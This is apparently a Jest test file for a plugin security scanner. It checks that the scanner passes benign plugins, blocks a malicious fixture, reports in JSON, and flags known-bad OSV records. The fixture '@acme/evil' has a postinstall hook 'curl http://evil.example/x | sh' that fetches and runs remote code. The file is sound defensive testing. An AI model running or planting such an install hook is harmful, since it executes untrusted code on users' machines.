import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { makeWorkspace, type TempWorkspace } from '../../../spec/temp-workspace.ts';
import { COUNT, HELLO } from '../../../spec/vault-workspace.ts';
import scanExecutor, { type ScanOptions } from './executor.ts';

const EVIL = { ...HELLO, name: '@acme/evil', scripts: { postinstall: 'curl http://evil.example/x | sh' } };

let workspace: TempWorkspace;
beforeEach(async () => {
  workspace = await makeWorkspace();
  await workspace.plugin('plugins-src/hello', HELLO);
  await workspace.plugin('plugins-src/word-count', COUNT);
  await workspace.plugin('evil', EVIL);
});
afterEach(() => workspace.remove());

const scan = (options: Partial<ScanOptions> = {}): Promise<{ success: boolean }> =>
  scanExecutor({ plugins: ['plugins-src/*'], ...options }, workspace, workspace.ports);

describe('scan', () => {
  it('scans what a glob names, and writes nothing', async () => {
    const before = await workspace.tree('.');
    await expect(scan()).resolves.toEqual({ success: true });
    expect(workspace.out.filter((line) => line.includes('findings in'))).toEqual([
      '@acme/hello@1.0.0: pass, 0 findings in 2 files',
      'word-count@0.3.1: pass, 0 findings in 2 files',
    ]);
    expect(await workspace.tree('.')).toEqual(before);
  });

  it('fails for a malicious plugin, and still tells of the others', async () => {
    await expect(scan({ plugins: ['evil', 'plugins-src/hello'] })).resolves.toEqual({ success: false });
    expect(workspace.out).toContain('@acme/hello@1.0.0: pass, 0 findings in 2 files');
    expect(workspace.out.join('\n')).toMatch(/^@acme\/evil@1\.0\.0: block, /m);
    expect(workspace.err).toEqual([
      expect.stringMatching(/^error: @acme\/evil@1\.0\.0 is stopped by .* \(ERR_SCAN_BLOCKED\)$/),
      expect.stringMatching(/^hint: /),
    ]);
  });

  it('reports to machines: one report is itself, several are a list', async () => {
    await expect(scan({ plugins: ['evil'], json: true })).resolves.toEqual({ success: false });
    await scan({ json: true });
    const [one, several] = workspace.out.map((line): unknown => JSON.parse(line));
    expect(one).toMatchObject({ name: '@acme/evil', verdict: 'block' });
    expect(several).toMatchObject([{ name: '@acme/hello' }, { name: 'word-count' }]);
    expect(workspace.err).toEqual([]);
  });

  it('tells what is new since the version before', async () => {
    await workspace.plugin('before', { ...HELLO, version: '0.9.0' });
    await workspace.plugin('after', HELLO, 'export const get = () => fetch("https://example.com");\n');
    await scan({ plugins: ['after'], previous: 'before', json: true });
    const [withBefore] = workspace.out.splice(0);
    await scan({ plugins: ['after'], json: true });
    expect(withBefore).toContain('DIF-001');
    expect(workspace.out[0]).not.toContain('DIF-001');
  });

  it('refuses what an OSV record names', async () => {
    const record = {
      id: 'MAL-1',
      affected: [{ package: { ecosystem: 'npm', name: '@acme/hello' }, versions: ['1.0.0'] }],
    };
    await workspace.write('bad/MAL-1.json', JSON.stringify(record));
    const options = { plugins: ['plugins-src/hello'], knownBad: ['bad'] };
    await expect(scan(options)).resolves.toEqual({ success: false });
    expect(workspace.out.join('\n')).toContain('MAL-1');
  });

  const refusals: { name: string; options: Partial<ScanOptions>; code: string }[] = [
    { name: 'no plugin at all', options: { plugins: [] }, code: 'ERR_USAGE' },
    { name: 'a glob that matches nothing', options: { plugins: ['nope/*'] }, code: 'ERR_PLUGIN_SOURCE' },
    { name: 'one version before for several', options: { previous: 'evil' }, code: 'ERR_USAGE' },
    { name: 'a policy that is not there', options: { policy: ['nope.yaml'] }, code: 'ERR_IO' },
  ];
  it.each(refusals)('refuses $name with $code', async ({ options, code }) => {
    await expect(scan({ ...options, json: true })).resolves.toEqual({ success: false });
    expect(JSON.parse(workspace.out.join(''))).toMatchObject({ code });
  });
});
